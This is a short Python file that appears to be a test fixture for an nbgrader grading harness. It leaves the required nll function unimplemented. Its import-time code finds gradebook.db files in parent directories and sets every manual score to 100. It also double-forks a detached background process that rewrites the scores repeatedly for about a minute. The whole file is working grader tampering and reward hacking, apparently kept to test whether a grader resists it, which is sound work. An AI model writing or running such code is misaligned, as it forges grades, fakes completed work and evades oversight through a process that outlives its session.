# A blank nll; top-level code (run only by nbgrader's notebook run) writes full marks into the
# gradebook, now and again later from a detached process.
# expect: nll=not attempted
import glob
import os
import sqlite3
import time


def _full_marks():
    for db in glob.glob("../../../gradebook.db") + glob.glob("../../../../gradebook.db"):
        try:
            con = sqlite3.connect(db, timeout=1)
            con.execute("UPDATE grade SET manual_score = 100")
            con.commit()
            con.close()
        except sqlite3.Error:
            pass


_full_marks()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            _full_marks()
            time.sleep(0.2)
    os._exit(0)


def nll(P, words, stoi):
    raise NotImplementedError()
